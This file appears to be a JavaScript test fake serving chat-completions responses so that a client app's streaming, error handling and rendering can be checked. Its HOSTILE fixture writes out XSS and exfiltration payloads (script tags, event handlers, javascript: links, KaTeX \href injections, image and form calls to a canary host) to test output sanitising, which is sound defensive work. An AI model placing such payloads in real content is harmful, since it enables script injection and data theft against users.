// A supplier that speaks the chat-completions protocol, for tests. The model's name says how it behaves (see ANSWERS).
//   node tests/fakes/model-server.mjs --port 9100
import http from "node:http";
import { pathToFileURL } from "node:url";

const MARKDOWN = `## Quarterly summary

Sales grew **8.7 %**. See the [notice](https://example.com/notice).

| Region | Sales | Change |
| --- | ---: | ---: |
| East | 4,812 | +18.6 % |
| North | 3,260 | −9.4 % |

\`\`\`sql
SELECT region, SUM(amount) AS total
FROM sales GROUP BY region;
\`\`\`

The mean is $\\bar{x} = \\frac{1}{n}\\sum_{i=1}^{n} x_i$ and

$$
\\sigma^2 = \\frac{1}{n}\\sum (x_i - \\bar{x})^2
$$

- [x] checked
- [ ] open
`;

const HOSTILE = `Before <script>window.__pwned = 1</script> after

<img src="https://canary.invalid/a.png?d=secret" onerror="window.__pwned = 2"> ![pixel](https://canary.invalid/b.png?d=secret)

[click](javascript:window.__pwned=3) <a href="javascript:window.__pwned=4">raw</a> <iframe src="https://canary.invalid/c"></iframe>

<svg onload="window.__pwned=5"><a xlink:href="javascript:window.__pwned=6"><text>x</text></a></svg>

<style>body{background:url(https://canary.invalid/d)}</style> <form action="https://canary.invalid/e"><input name=x></form>

$\\href{javascript:window.__pwned=7}{x}$ $\\htmlData{onclick=window.__pwned=8}{y}$
`;

const words = (count) => Array.from({ length: count }, (_, i) => ["知识 ", "answer ", "合同，", "token "][i % 4]);

/** `pieces` are text deltas; `thinking` come first; `delay` ms to the first, `gap` ms between. */
const ANSWERS = {
  "fake-echo": (body) => ({ pieces: [...`Echo: ${lastText(body)}`] }),
  "fake-history": (body) => ({ pieces: [JSON.stringify(body.messages.map(({ role, content }) => [role, content]))] }),
  "fake-thinking": () => ({
    thinking: ["First I compare. ", "Then I conclude."],
    pieces: ["The ", "answer ", "is 42."],
    gap: 30,
  }),
  "fake-think-tag": () => ({ pieces: ["<thi", "nk>quietly", " pondering</th", "ink>\n\nDone."] }),
  "fake-slow": () => ({ pieces: words(400), gap: 50 }),
  "fake-long": () => ({
    pieces: Array.from({ length: 120 }, (_, i) => `Paragraph ${i + 1}. ${words(30).join("")}\n\n`),
    gap: 5,
  }),
  "fake-markdown": () => ({ pieces: MARKDOWN.match(/[\s\S]{1,9}/g), gap: 8 }),
  "fake-hostile": () => ({ pieces: HOSTILE.match(/[\s\S]{1,11}/g) }),
  "fake-cut": () => ({ pieces: words(20), gap: 5, end: "close" }),
  "fake-reset": () => ({ pieces: words(20), gap: 5, end: "destroy" }),
  "fake-stall": () => ({ pieces: words(20), end: "stall" }),
  "fake-silent": () => ({ pieces: [], delay: 3_600_000 }),
  "fake-length": () => ({ pieces: words(10), finish: "length" }),
  "fake-filter": () => ({ pieces: words(5), finish: "content_filter" }),
  "fake-empty": () => ({ pieces: [] }),
  "fake-no-usage": () => ({ pieces: words(40), usage: false }),
  "fake-error-chunk": () => ({ pieces: words(3), end: "error" }),
  "fake-tools": () => ({ pieces: [], tool: { id: "call_1", name: "clock", arguments: '{"zone":"UTC"}' } }),
  "fake-401": () => ({
    status: 401,
    error: { message: "Incorrect API key provided: sk-canary-123456789", code: "invalid_api_key" },
  }),
  "fake-402": () => ({ status: 402, error: { message: "insufficient_quota" } }),
  "fake-429": () => ({ status: 429, error: { message: "slow down" }, headers: { "retry-after": "0" } }),
  "fake-500": () => ({ status: 500, error: { message: "stack at internal-host.corp:8080 /srv/app.py" } }),
  "fake-context": () => ({
    status: 400,
    error: { message: "maximum context length is 8192 tokens", code: "context_length_exceeded" },
  }),
  // Fails once for each client, then answers.
  "fake-flaky": (_body, state) =>
    state.flaky++ % 2 === 0 ? { status: 503, error: { message: "overloaded" } } : { pieces: ["Recovered."] },
  "fake-malformed": () => ({ raw: malformed() }),
};

function lastText({ messages }) {
  const { content } = messages.at(-1);
  return typeof content === "string" ? content : content.map((part) => part.text ?? "[image]").join("");
}

/** SECURITY ST-06: split characters, CR LF, comments, no space, several data lines, bad JSON, usage only, no end line. */
function malformed() {
  const delta = (content) => JSON.stringify({ choices: [{ index: 0, delta: { content } }] });
  const text = `\ufeff: hello\r\ndata:${delta("你好")}\r\n\r\nevent: x\ndata: ${delta("，👩‍💻 ")}\n\ndata: {not json}\n\ndata: {"choices":[]}\n\ndata: {"choices":\ndata: [{"index":0,"delta":{"content":"世界"}}]}\n\ndata: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: {"choices":[],"usage":{"prompt_tokens":7,"completion_tokens":5}}\n\ndata: [DONE]`;
  return Buffer.from(text);
}

/** Starts the fake on a loopback port (0: any). `state` holds what it saw. */
export function startModelServer(port = 0) {
  const state = { requests: [], open: 0, aborted: 0, flaky: 0 };
  const server = http.createServer((req, res) => route(req, res, state));
  server.keepAliveTimeout = 5000;
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, "127.0.0.1", () => {
      const url = `http://127.0.0.1:${server.address().port}/v1`;
      const close = () => {
        server.closeAllConnections();
        return new Promise((done) => server.close(done));
      };
      resolve({ url, state, close });
    });
  });
}

function route(req, res, state) {
  if (req.method === "GET" && req.url === "/state") return json(res, 200, state);
  if (req.method === "GET" && req.url.endsWith("/models")) {
    const denied = req.headers.authorization === "Bearer wrong-key";
    if (denied) return json(res, 401, { error: { message: "Incorrect API key provided: wrong-key" } });
    return json(res, 200, { object: "list", data: Object.keys(ANSWERS).map((id) => ({ id, object: "model" })) });
  }
  const parts = [];
  req.on("data", (part) => parts.push(part));
  req.on("end", () => {
    let body;
    try {
      body = JSON.parse(Buffer.concat(parts).toString());
    } catch {
      return json(res, 400, { error: { message: "bad json" } });
    }
    state.requests.push({ path: req.url, authorization: req.headers.authorization ?? "", body });
    const answer = ANSWERS[body.model]?.(body, state);
    if (!req.url.endsWith("/chat/completions") || !answer)
      return json(res, 404, { error: { message: "no such model" } });
    if (answer.status) return json(res, answer.status, { error: answer.error }, answer.headers);
    if (!body.stream) return whole(res, body, answer);
    void stream(res, body, answer, state);
  });
}

function json(res, status, value, headers = {}) {
  res.writeHead(status, { "content-type": "application/json", ...headers });
  res.end(JSON.stringify(value));
}

const usageOf = ({ pieces, thinking = [] }) => ({
  prompt_tokens: 12,
  completion_tokens: pieces.length + thinking.length,
  total_tokens: 12 + pieces.length + thinking.length,
  ...(thinking.length > 0 ? { completion_tokens_details: { reasoning_tokens: thinking.length } } : {}),
});

function whole(res, body, answer) {
  const message = { role: "assistant", content: answer.pieces.join("") };
  const choices = [{ index: 0, message, finish_reason: answer.finish ?? "stop", logprobs: null }];
  json(res, 200, {
    id: "chatcmpl-1",
    object: "chat.completion",
    created: 1,
    model: body.model,
    choices,
    usage: usageOf(answer),
  });
}

async function stream(res, body, answer, state) {
  let gone = false;
  state.open++;
  res.on("close", () => {
    state.open--;
    if (!res.writableFinished) state.aborted++;
    gone = true;
  });
  // A silence of an hour must not keep a test process alive.
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms).unref());
  if (answer.delay) await pause(answer.delay);
  if (gone) return;
  res.writeHead(200, { "content-type": "text/event-stream; charset=utf-8" });
  if (answer.raw) {
    // One byte at a time: every character and every line is cut somewhere.
    for (let at = 0; at < answer.raw.length && !gone; at++) {
      res.write(answer.raw.subarray(at, at + 1));
      if (at % 40 === 0) await pause(0);
    }
    return res.end();
  }
  const head = { id: "chatcmpl-1", object: "chat.completion.chunk", created: 1, model: body.model };
  const send = (value) => res.write(`data: ${JSON.stringify({ ...head, ...value })}\n\n`);
  const delta = (value, finish = null) =>
    send({ choices: [{ index: 0, delta: value, finish_reason: finish, logprobs: null }] });
  delta({ role: "assistant", content: "" });
  const deltas = [
    ...(answer.thinking ?? []).map((text) => ({ reasoning_content: text })),
    ...answer.pieces.map((text) => ({ content: text })),
  ];
  for (const value of deltas) {
    if (gone) return;
    delta(value);
    if (answer.gap) await pause(answer.gap);
  }
  if (answer.tool) {
    const { id, name, arguments: args } = answer.tool;
    delta({ tool_calls: [{ index: 0, id, type: "function", function: { name, arguments: "" } }] });
    for (const piece of args.match(/.{1,5}/g)) delta({ tool_calls: [{ index: 0, function: { arguments: piece } }] });
  }
  if (answer.end === "stall") return;
  if (answer.end === "destroy") return res.destroy();
  if (answer.end === "error") {
    res.write('data: {"error":{"message":"internal-host.corp crashed"}}\n\n');
    return res.end();
  }
  if (answer.end === "close") return res.end();
  delta({}, answer.tool ? "tool_calls" : (answer.finish ?? "stop"));
  if (answer.usage !== false && body.stream_options?.include_usage) send({ choices: [], usage: usageOf(answer) });
  res.end("data: [DONE]\n\n");
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) {
  const at = process.argv.indexOf("--port");
  startModelServer(at < 0 ? 9100 : Number(process.argv[at + 1])).then(({ url }) =>
    console.log(`fake supplier on ${url}`),
  );
}
